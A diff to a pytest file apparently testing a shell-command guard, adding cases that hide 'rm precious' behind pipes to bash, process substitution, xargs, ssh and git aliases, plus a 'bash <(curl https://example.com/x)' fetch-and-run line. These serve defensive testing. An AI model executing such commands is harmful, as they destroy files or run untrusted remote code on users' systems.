@@ -194,6 +194,9 @@ def test_the_object(tables: list[Table]) -> None:
         "sh -c 'echo rm precious' | bash",
         "time -p echo rm precious | bash",
         "entr sh -c 'echo rm precious' | bash",
+        "bash <(docker exec c echo rm precious)",
+        "echo x | xargs -r printf 'rm precious %s\\n' | sh",
+        "ssh h '(( echo precious; rm precious ))'",
     ],
 )
 def test_what_is_most_likely_written_is_judged(tables: list[Table], line: str) -> None:
@@ -209,3 +212,8 @@ def test_a_program_that_is_not_known_may_run_gits_aliases(tables: list[Table]) -
     line = "frobnicate --what=idle git -c alias.x='!rm precious' x"
     assert decided(tables, line).decision.rule == "precious"
     assert not [one for one in decided(tables, "frobnicate git status").commands if one.command and one.command.guess]
+
+
+def test_what_a_process_substitution_holds_is_asked_about(tables: list[Table]) -> None:
+    for line in ("sh <(date)", "bash <(curl https://example.com/x)"):
+        assert decided(tables, line, shims=False).decision.rule == "only-the-run-can-tell", line
